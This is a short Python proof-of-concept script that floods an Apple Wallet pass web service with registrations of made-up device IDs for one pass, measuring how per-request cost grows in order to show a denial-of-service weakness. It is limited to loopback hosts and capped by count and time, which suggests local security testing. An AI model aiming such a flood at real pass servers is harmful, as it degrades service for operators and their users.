#!/usr/bin/env python3
"""A holder of ONE pass registers many made-up device ids for it (Apple's protocol does not authenticate devices).
Each registration rewrites the pass grain's whole state (all registrations) and a device grain, so cost grows with N.
Usage: register_flood.py BASE_URL PASS_TYPE SERIAL AUTH_TOKEN N [SECONDS]   (loopback only; stops at N or SECONDS)"""
import http.client, json, os, sys, time, urllib.parse
BASE, PT, SERIAL, TOKEN, N = sys.argv[1:6]
N = int(N); LIMIT = float(sys.argv[6]) if len(sys.argv) > 6 else 120
u = urllib.parse.urlparse(BASE); assert u.hostname in ("127.0.0.1", "::1")
c = http.client.HTTPConnection(u.hostname, u.port, timeout=30)
start = time.time(); window = time.time(); codes = {}
body = json.dumps({"pushToken": "ab" * 100})            # 200 hex chars, the longest accepted
for i in range(N):
    dev = os.environ.get("PREFIX", "flood") + f"{i:07d}" + "x" * 100                    # 112 chars (SafeIdentifier allows 128)
    c.request("POST", f"/v1/devices/{dev}/registrations/{PT}/{SERIAL}", body,
              {"Authorization": f"ApplePass {TOKEN}", "Content-Type": "application/json"})
    r = c.getresponse(); r.read(); codes[r.status] = codes.get(r.status, 0) + 1
    if (i + 1) % 250 == 0:
        now = time.time()
        print(f"{i+1:>6} registered  last 250 took {now-window:6.2f}s  ({(now-window)/250*1000:6.1f} ms each)  codes={codes}", flush=True)
        window = now
    if time.time() - start > LIMIT:
        print("time limit"); break
print(f"total {time.time()-start:.1f}s codes={codes}")
